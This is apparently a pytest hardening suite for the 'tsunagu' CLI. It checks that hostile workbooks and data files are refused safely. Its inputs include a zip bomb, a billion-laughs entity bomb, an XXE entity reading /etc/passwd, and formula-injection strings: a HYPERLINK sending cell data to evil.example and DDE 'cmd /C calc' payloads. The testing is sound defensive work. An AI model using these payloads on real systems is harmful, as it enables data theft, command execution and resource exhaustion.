"""Issue 25: inputs a hostile or careless user makes, each ending in a clear message in bounded memory and time.

Every input here is made by the test itself (a far cell, a bomb, a formula name,
a hidden sheet, a malformed HSDS row...). The workbook cases run the real CLI in
a subprocess whose address space is capped (``RLIMIT_AS``), so a reader that
expands a small file fails the test with a MemoryError instead of passing slowly.
"""

import csv
import io
import os
import resource
import subprocess
import sys
import time
import zipfile

import pytest
from openpyxl import load_workbook

from conftest import ROOT

# The CLI validating a small workbook peaks at about 80 MB of address space; 200 MB more is the bound.
ADDRESS_SPACE = 300 * 1024 * 1024
SECONDS = 60


def _bounded_cli(*args, limit=ADDRESS_SPACE):
    """Run ``tsunagu ARGS`` with its address space capped; (exit code, stdout + stderr, seconds)."""

    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "tsunagu", *map(str, args)], capture_output=True, cwd=ROOT,
                          env=dict(os.environ), preexec_fn=cap, timeout=SECONDS * 3)
    output = done.stdout.decode("utf-8", "replace") + done.stderr.decode("utf-8", "replace")
    return done.returncode, output, time.monotonic() - started


def _refused(path, *expected):
    """``tsunagu validate path`` exits 1 with each expected text, without a traceback, in bounded memory and time."""
    code, output, seconds = _bounded_cli("validate", path)
    assert code == 1, output
    assert "Traceback" not in output and "MemoryError" not in output, output
    for text in expected:
        assert text in output, output
    assert seconds < SECONDS, f"{seconds:.0f} s"
    return output


# --- workbooks: built from the template, then made hostile -----------------------------------

SHEET_NS = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
SST_TYPE = (b'<Override PartName="/xl/sharedStrings.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    """三原市's template workbook, as ``tsunagu template workbook`` writes it."""
    from tsunagu.compile import compile_graph
    from tsunagu.loaders.formats.workbook import template_workbook_bytes

    path = tmp_path_factory.mktemp("hardening") / "mihara.xlsx"
    path.write_bytes(template_workbook_bytes(compile_graph(lists=False).graph, ["mihara"]))
    return path


def _rebuilt(source, target, parts, drop=()):
    """A copy of the zip ``source`` with parts replaced or added: {name: bytes, or a function writing to a stream}."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        names = old.namelist()
        for name in names + [n for n in parts if n not in names]:
            if name in drop:
                continue
            content = parts.get(name)
            if content is None:
                data = old.read(name)
                if name == "[Content_Types].xml" and "xl/sharedStrings.xml" in parts and b"sharedStrings" not in data:
                    data = data.replace(b"</Types>", SST_TYPE + b"</Types>")
                new.writestr(name, data)
            elif callable(content):
                with new.open(name, "w", force_zip64=True) as stream:
                    content(stream)
            else:
                new.writestr(name, content)
    return target


def _sheet_xml(template):
    """(text before the rows, the template's own rows, text after) of the sheet 相談窓口."""
    xml = zipfile.ZipFile(template).read("xl/worksheets/sheet1.xml")
    start, end = xml.index(b"<sheetData>") + len(b"<sheetData>"), xml.index(b"</sheetData>")
    return xml[:start], xml[start:end], xml[end:]


def _edited(template, tmp_path, change, name="edited.xlsx"):
    book = load_workbook(template)
    change(book)
    path = tmp_path / name
    book.save(path)
    return path


def test_a_space_typed_at_the_last_row_of_excel_is_read_in_bounded_memory(template, tmp_path):
    """Ctrl+Down and a space: one blank cell at row 1,048,576 made openpyxl's normal mode fill gigabytes."""
    space = _edited(template, tmp_path, lambda b: b["相談窓口"].cell(row=1_048_576, column=3, value=" "), "space.xlsx")
    assert space.stat().st_size < 40_000
    code, output, seconds = _bounded_cli("validate", space)
    assert code == 0 and "問題なし" in output, output
    assert seconds < SECONDS

    # the same blank as Excel saves it: a shared string
    head, rows, tail = _sheet_xml(template)
    shared = _rebuilt(template, tmp_path / "shared-space.xlsx", {
        "xl/worksheets/sheet1.xml": head + rows + b'<row r="1048576"><c r="C1048576" t="s"><v>0</v></c></row>' + tail,
        "xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                                b'<si><t xml:space="preserve"> </t></si></sst>'})
    code, output, _ = _bounded_cli("validate", shared)
    assert code == 0 and "問題なし" in output, output


def test_a_value_beyond_the_row_cap_is_refused_naming_book_and_sheet(template, tmp_path):
    far = _edited(template, tmp_path, lambda b: b["相談窓口"].cell(row=1_048_576, column=3, value="x"), "far.xlsx")
    _refused(far, "ブック far.xlsx: シート「相談窓口」の行数が多すぎます（1,048,576行目にも値があります。"
                  "ほかのシートの ")  # the sheet 出典 is read first

    head, rows, tail = _sheet_xml(template)
    many = b"".join(b'<row r="%d"><c r="C%d" t="inlineStr"><is><t>n%d</t></is></c></row>' % (i, i, i)
                    for i in range(4, 20_004))
    plain = _rebuilt(template, tmp_path / "rows.xlsx", {"xl/worksheets/sheet1.xml": head + rows + many + tail})
    _refused(plain, "シート「相談窓口」の行数が多すぎます（", "行と合わせて 5,000行まで）")

    # the cap is the book's: four sheets of 1,500 rows are as many rows as one of 6,000
    def spread(book):
        for title in ("相談窓口", "プラットフォーム", "構成団体", "事業"):
            for number in range(3, 1_503):
                book[title].cell(row=number, column=3, value="x")

    _refused(_edited(template, tmp_path, spread, "spread.xlsx"), "シート「事業」の行数が多すぎます（")


def test_a_zipped_sheet_expanding_to_millions_of_rows_is_refused_unread(template, tmp_path):
    head, rows, tail = _sheet_xml(template)

    def millions(stream):
        stream.write(head + rows)
        for start in range(4, 3_000_004, 10_000):
            stream.write(b"".join(b'<row r="%d"><c r="C%d"><v>1</v></c></row>' % (i, i)
                                 for i in range(start, start + 10_000)))
        stream.write(tail)

    bomb = _rebuilt(template, tmp_path / "bomb.xlsx", {"xl/worksheets/sheet1.xml": millions})
    assert bomb.stat().st_size < 20 * 1024 * 1024  # well under the 50 MB cap on an input file
    _refused(bomb, "ブック bomb.xlsx: シート「相談窓口」の行数が多すぎます（展開すると")


def test_a_value_beyond_the_column_cap_is_refused(template, tmp_path):
    wide = _edited(template, tmp_path, lambda b: b["構成団体"].cell(row=3, column=16_384, value="x"), "wide.xlsx")
    _refused(wide, "シート「構成団体」の列数が多すぎます（3行目 XFD列にも値があります。1シート 100列まで）")


def test_a_cell_longer_than_excel_allows_is_refused(template, tmp_path):
    head, rows, tail = _sheet_xml(template)
    long_cell = b'<row r="4"><c r="C4" t="inlineStr"><is><t>' + b"x" * 40_000 + b"</t></is></c></row>"
    path = _rebuilt(template, tmp_path / "long.xlsx", {"xl/worksheets/sheet1.xml": head + rows + long_cell + tail})
    _refused(path, "シート「相談窓口」 4行目 C列: セルの文字が長すぎます（Excel の上限 32,767 文字を超えます）")


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b"]>")


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"])
def test_an_entity_bomb_in_any_part_is_refused(template, tmp_path, part):
    original = zipfile.ZipFile(template).read(part)
    root = original.index(b"<", original.index(b"?>") + 2 if original.startswith(b"<?xml") else 0)
    first = original[root:original.index(b">", root) + 1]
    bombed = BILLION_LAUGHS + first + b"&lol9;" + original[root + len(first):] if part.endswith("sheet1.xml") else \
        BILLION_LAUGHS + original[root:]
    path = _rebuilt(template, tmp_path / "laughs.xlsx", {part: bombed})
    _refused(path, f"ブック laughs.xlsx: ブックの部品 {part} に DOCTYPE（外部実体・実体の展開）があります")


def test_an_external_entity_is_refused(template, tmp_path):
    xml = zipfile.ZipFile(template).read("xl/worksheets/sheet1.xml")
    evil = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + xml.replace(b"<t>mihara-window</t>", b"<t>&x;</t>", 1))
    path = _rebuilt(template, tmp_path / "xxe.xlsx", {"xl/worksheets/sheet1.xml": evil})
    output = _refused(path, "DOCTYPE（外部実体・実体の展開）があります")
    assert "root:" not in output


def test_parts_that_expand_or_multiply_are_refused(template, tmp_path):
    styles = zipfile.ZipFile(template).read("xl/styles.xml")
    padded = styles.replace(b"<cellStyles", b"<!--" + b" " * (5 * 1024 * 1024) + b"--><cellStyles")
    _refused(_rebuilt(template, tmp_path / "styles.xlsx", {"xl/styles.xml": padded}),
             "ブックの部品 xl/styles.xml が大きすぎます（展開すると 5 MB。4 MB まで）")

    many_styles = styles.replace(b'<cellXfs count="4">', b'<cellXfs count="4">' + b"<xf/>" * 150_000)
    _refused(_rebuilt(template, tmp_path / "xfs.xlsx", {"xl/styles.xml": many_styles}),
             "部品 xl/styles.xml が壊れています（要素が 100,000 を超えます）")

    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b"<si/>" * 500_000 + b"</sst>"
    _refused(_rebuilt(template, tmp_path / "strings.xlsx", {"xl/sharedStrings.xml": strings}),
             "ブックの文字列が多すぎます（200,000 個まで）")

    junk = {f"junk/{i}.bin": b"" for i in range(1_500)}
    _refused(_rebuilt(template, tmp_path / "parts.xlsx", junk), "ブックの部品が多すぎます（1,000 個まで）")


# --- hidden sheets, rows and columns ----------------------------------------------------------


def _planted(book):
    """A second 相談窓口 row with a planted phone, as a hostile edit would add it."""
    sheet = book["相談窓口"]
    headers = [c.value for c in sheet[1]]
    for position, cell in enumerate(sheet[3], start=1):
        sheet.cell(row=4, column=position, value=cell.value)
    sheet.cell(row=4, column=headers.index("ID") + 1, value="planted-window")
    sheet.cell(row=4, column=headers.index("電話番号") + 1, value="090-0000-0000")
    return sheet


@pytest.mark.parametrize("state, how", [("hidden", "非表示"), ("veryHidden", "ごく非表示（veryHidden")])
def test_a_hidden_sheet_is_refused_not_read(template, tmp_path, state, how):
    def change(book):
        _planted(book)
        book["相談窓口"].sheet_state = state
        book.active = 1

    output = _refused(_edited(template, tmp_path, change), f"ブック edited.xlsx シート「相談窓口」: シートが{how}")
    assert "planted" not in output


@pytest.mark.parametrize("how", ["hidden", "zero height"])
def test_a_hidden_row_is_refused_naming_sheet_and_row(template, tmp_path, how):
    def change(book):
        _planted(book).row_dimensions[4].hidden = True

    path = _edited(template, tmp_path, change)
    if how == "zero height":  # what openpyxl cannot write: a row of height 0, hidden without the flag
        xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
        start = xml.index(b'<row r="4"')
        xml = xml[:start] + b'<row r="4" ht="0" customHeight="1">' + xml[xml.index(b">", start) + 1:]
        path = _rebuilt(path, tmp_path / "zero.xlsx", {"xl/worksheets/sheet1.xml": xml})
    _refused(path, f"ブック {path.name} シート「相談窓口」 4行目: 非表示の行に値があります")


def test_a_hidden_column_holding_a_value_is_refused(template, tmp_path):
    def change(book):
        book["相談窓口"].column_dimensions["C"].hidden = True  # 名称

    _refused(_edited(template, tmp_path, change), "シート「相談窓口」 3行目 C列「名称」: 非表示の列に値があります")


def test_a_newline_bidi_control_or_huge_name_in_a_cell_is_named_by_column(template, tmp_path):
    def change(book):
        sheet = book["構成団体"]
        headers = [c.value for c in sheet[1]]
        sheet.cell(row=3, column=headers.index("名称") + 1, value="三原市\n社会福祉協議会")
        sheet.cell(row=3, column=headers.index("電話番号") + 1, value="0848-\u202e1234-56")
        sheet.cell(row=3, column=headers.index("住所・場所") + 1, value="x" * 32_000)

    output = _refused(_edited(template, tmp_path, change),
                      "シート「構成団体」 3行目 C列「名称」: 改行やタブ (\\n) は入れられません",
                      "シート「構成団体」 3行目 M列「電話番号」: 表示の向きを変える制御文字 (\\u202e)",
                      "シート「構成団体」 3行目 R列「住所・場所」: 長すぎます（32,000 文字。この項目は 500 文字まで）")
    assert "\u202e" not in output


# --- text every input kind refuses: bidi controls, line breaks in one-line fields, absurd lengths ---


@pytest.mark.parametrize("field, value, expected", [
    ("name", "x" * 32_000, "field 'name': 長すぎます（32,000 文字。この項目は 200 文字まで）"),
    ("telephone", "088-\u202e4321-00", "field 'telephone': 表示の向きを変える制御文字 (\\u202e) があります"),
    ("name", "いの\u2067町", "field 'name': 表示の向きを変える制御文字 (\\u2067) があります"),
    ("telephone", "088-893\n-1234", "field 'telephone': 改行やタブ (\\n) は入れられません"),
    ("email", "a@" + "b" * 300 + ".jp", "field 'email': 長すぎます（305 文字。この項目は 254 文字まで）"),
])
def test_text_that_would_mislead_a_page_is_refused_in_yaml(runner, tmp_path, field, value, expected):
    import json

    from tsunagu.cli import cli

    path = tmp_path / "org.yaml"
    fields = {"name": "ok", field: value}
    path.write_text("sources:\n  s: {document: x.txt, quote: y}\nrecords:\n"
                    "  - {id: bad-org, type: Organisation, sources: [s], "
                    + ", ".join(f"{k}: {json.dumps(v)}" for k, v in fields.items()) + "}\n", encoding="utf-8")
    result = runner.invoke(cli, ["validate", str(path)])
    assert result.exit_code == 1, result.output
    assert f"{path}:4: record 'bad-org': {expected}" in result.output
    assert "\u202e" not in result.output and "\u2067" not in result.output
    assert all(len(line) < 500 for line in result.output.splitlines())


def test_a_bidi_control_from_turtle_is_refused(runner, tmp_path):
    from tsunagu.cli import cli

    path = tmp_path / "org.ttl"
    path.write_text('@prefix id: <https://w3id.org/tsunagu/id/> .\n@prefix tg: <https://w3id.org/tsunagu/def#> .\n'
                    '@prefix schema: <https://schema.org/> .\n@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n'
                    'id:evil-org a tg:Organisation ; rdfs:label "悪い団体"@ja ; schema:telephone "\u202e0000-111-880" .\n',
                    encoding="utf-8")
    result = runner.invoke(cli, ["validate", str(path)])
    assert result.exit_code == 1, result.output
    assert "field 'telephone': 表示の向きを変える制御文字 (\\u202e)" in result.output


# --- formulas from data never reach a spreadsheet -----------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"相談はこちら")'
FORMULA_PHONE = "+81 88-000-0000"
FORMULA_DOCUMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_QUOTE = "-2+3+cmd|' /C calc'!A0"
FORMULA_YAML = f"""
sources:
  evil:
    document: "{FORMULA_DOCUMENT}"
    quote: "{FORMULA_QUOTE}"
records:
  - id: formula-npo
    type: NPO
    name: '{FORMULA_NAME}'
    serves: [ino]
    domains: [employment]
    age: 15-64
    telephone: "{FORMULA_PHONE}"
    sources: [evil]
  - id: ino-needs-survey-2030
    type: DutyStatus
    municipality: ino
    duty: needs-survey
    fulfilled: true
    as_of: 2030-01-01
    sources: [evil]
"""
FORMULA_TEXTS = (FORMULA_NAME, FORMULA_PHONE, FORMULA_DOCUMENT)


@pytest.fixture(scope="module")
def formula_home(tmp_path_factory):
    """A build whose organisation, phone and source title start like spreadsheet formulas."""
    from tsunagu.compile.compiler import build

    folder = tmp_path_factory.mktemp("formula")
    data = folder / "formula.yaml"
    data.write_text(FORMULA_YAML, encoding="utf-8")
    home = folder / "cache"
    build([data], directory=home, lists=False)
    return home


def _csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula_in_csv(text):
    import re

    cells = _csv_cells(text)
    # what a spreadsheet would run: = or @ first, or a sign before anything but a plain number
    live = [c for c in cells if c[:1] in ("=", "@") or c[:1] in ("+", "-") and not re.fullmatch(r"[+-][0-9.]*", c)]
    assert not live, live
    return cells


def _assert_no_formula_in_xlsx(path):
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("args, expected", [
    (["refer", "いの町", "--age", "20", "--need", "employment"], (FORMULA_NAME,)),  # the phone shows after ☎
    (["gaps", "--municipality", "いの町"], (FORMULA_DOCUMENT,)),
    (["show", "formula-npo"], (FORMULA_NAME, FORMULA_PHONE, FORMULA_DOCUMENT)),
])
def test_cli_csv_and_xlsx_carry_no_formula_from_data(runner, formula_home, tmp_path, monkeypatch, args, expected):
    from tsunagu.cli import cli

    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
    target = tmp_path / "out.csv"
    result = runner.invoke(cli, [*args, "-o", str(target)])
    assert result.exit_code == 0, result.output
    cells = _assert_no_formula_in_csv(target.read_bytes().decode("utf-8-sig"))
    for text in expected:
        assert "'" + text in cells or any(("'" + text) in c for c in cells), (text, cells)

    workbook = tmp_path / "out.xlsx"
    result = runner.invoke(cli, [*args, "-o", str(workbook)])
    assert result.exit_code == 0, result.output
    texts = _assert_no_formula_in_xlsx(workbook)
    for text in expected:
        assert any(text in t for t in texts), (text, texts)  # the value itself, as text, no quote added


def test_the_template_writes_formula_like_values_as_text_and_reads_them_back(runner, formula_home, tmp_path,
                                                                               monkeypatch):
    from tsunagu.cli import cli
    from tsunagu.loaders.formats.workbook import read_workbook

    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
    target = tmp_path / "ino.xlsx"
    result = runner.invoke(cli, ["template", "workbook", "--municipality", "いの町", "-o", str(target)])
    assert result.exit_code == 0, result.output
    texts = _assert_no_formula_in_xlsx(target)
    assert FORMULA_NAME in texts and FORMULA_DOCUMENT in texts
    result = runner.invoke(cli, ["validate", str(target)])
    assert result.exit_code == 0, result.output
    record = next(r for r in read_workbook(target).records if r.id == "formula-npo")
    assert record.fields["name"] == FORMULA_NAME and record.fields["telephone"] == FORMULA_PHONE


def test_the_hsds_export_neutralises_formulas_and_reads_them_back(runner, formula_home, tmp_path, monkeypatch):
    from tsunagu.cli import cli
    from tsunagu.loaders.formats.hsds import read_hsds

    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
    folder = tmp_path / "hsds"
    result = runner.invoke(cli, ["export", "--to", "hsds", "-o", str(folder)])
    assert result.exit_code == 0, result.output
    for table in folder.glob("*.csv"):
        _assert_no_formula_in_csv(table.read_text(encoding="utf-8"))
    files, _ = read_hsds(folder)
    record = next(r for f in files for r in f.records if r.id == "formula-npo")
    assert record.fields["name"] == FORMULA_NAME and record.fields["telephone"] == FORMULA_PHONE


# --- HSDS: malformed values, whole ids, JSON, many services ------------------------------------

ORG = "11111111-1111-4111-8111-111111111111"


def _hsds_folder(tmp_path, services, extra=None, organizations=None):
    folder = tmp_path / "hsds"
    folder.mkdir(exist_ok=True)
    (folder / "organizations.csv").write_text(organizations or f"id,name\n{ORG},つなぐ会\n", encoding="utf-8")
    (folder / "services.csv").write_text(services, encoding="utf-8")
    for name, text in (extra or {}).items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("age", ["inf", "1e400", "nan", "-inf", "99999999999999999999999"])
def test_an_hsds_age_that_is_not_a_number_is_named_by_file_row_and_field(runner, tmp_path, age):
    from tsunagu.cli import cli

    folder = _hsds_folder(tmp_path, "id,organization_id,name,status,minimum_age,maximum_age\n"
                                    f"22222222-2222-4222-8222-222222222222,{ORG},居場所,active,{age},39\n")
    result = runner.invoke(cli, ["validate", str(folder)])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and not isinstance(result.exception, OverflowError)
    assert f"{folder / 'services.csv'}:2: record 'hsds-service-22222222222242228222222222222222': field 'age'" \
        in result.output


def test_an_hsds_row_longer_than_its_header_is_named(runner, tmp_path):
    from tsunagu.cli import cli

    folder = _hsds_folder(tmp_path, "id,organization_id,name,status,fees\n"
                                    f"22222222-2222-4222-8222-222222222222,{ORG},居場所,active,無料,余分,もう一つ\n")
    result = runner.invoke(cli, ["validate", str(folder)])
    assert result.exit_code == 1, result.output
    assert not isinstance(result.exception, TypeError) and "Traceback" not in result.output
    assert f"{folder / 'services.csv'}:2: 見出し（5 列）より多い 2 列があります" in result.output


def test_two_uuidv7_records_of_one_millisecond_are_two_records(tmp_path):
    from tsunagu.compile import compile_graph

    first, second = "0190f3a2-7b1c-7000-8000-000000000001", "0190f3a2-7b1c-7abc-9def-0123456789ab"
    folder = _hsds_folder(tmp_path, "id,organization_id,name,status\n"
                                    f"{first},{ORG},居場所A,active\n{second},{ORG},居場所B,active\n")
    graph = compile_graph([folder], embedded=False, lists=False).graph
    names = {graph.nodes[n].get("name") for n in graph if n.startswith("hsds-service-")}
    assert names == {"居場所A", "居場所B"}


def test_an_hsds_json_file_is_refused_not_passed_as_ok(runner, formula_home, tmp_path, monkeypatch):
    from tsunagu.cli import cli

    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
    folder = tmp_path / "export"
    assert runner.invoke(cli, ["export", "--to", "hsds", "-o", str(folder)]).exit_code == 0
    result = runner.invoke(cli, ["validate", str(folder / "json" / "organizations.json")])
    assert result.exit_code == 1, result.output
    assert "JSON-LD の @context のない JSON（HSDS の JSON など）は読めません" in result.output


def _services_with_areas(folder_root, count):
    import uuid

    services, areas = ["id,organization_id,name,status,fees"], ["id,service_id,name"]
    for i in range(count):
        service = str(uuid.UUID(int=i + 1))
        services.append(f"{service},{ORG},居場所{i},active,無料")
        areas.append(f"{uuid.UUID(int=10**9 + i)},{service},どこか{i}")
    folder_root.mkdir()
    return _hsds_folder(folder_root, "\n".join(services) + "\n", {"service_areas.csv": "\n".join(areas) + "\n"})


def _lines_run(function, *args):
    """How many lines of Python ``function`` runs (loop iterations included): work counted, not timed."""
    import sys

    count = [0]

    def tracer(frame, event, arg):
        if event == "line":
            count[0] += 1
        return tracer

    sys.settrace(tracer)
    try:
        function(*args)
    finally:
        sys.settrace(None)
    return count[0]


def test_hsds_services_with_areas_cost_linear_work(tmp_path):
    from tsunagu.loaders.formats.hsds import read_hsds

    small_folder = _services_with_areas(tmp_path / "small", 200)
    read_hsds(small_folder)  # once untraced: what is loaded and cached on first use is not the per-row work
    small = _lines_run(read_hsds, small_folder)
    large = _lines_run(read_hsds, _services_with_areas(tmp_path / "large", 800))
    assert large / small < 6, (small, large)  # 4x the services: about 4x the work; a scan per service, 16x


def test_many_hsds_services_with_areas_read_with_summarised_notices(tmp_path):
    from tsunagu.loaders.formats.hsds import read_hsds

    count = 20_000
    folder = _services_with_areas(tmp_path / "many", count)
    files, notices = read_hsds(folder)
    assert sum(len(f.records) for f in files) == count + 1
    assert len(notices) < 20, len(notices)
    assert f"{folder / 'service_areas.csv'}: name: … ほか {count - 3:,} 件" in "\n".join(notices)
    assert any(line.startswith(f"{folder / 'service_areas.csv'}:2: name: area 'どこか0'") for line in notices)
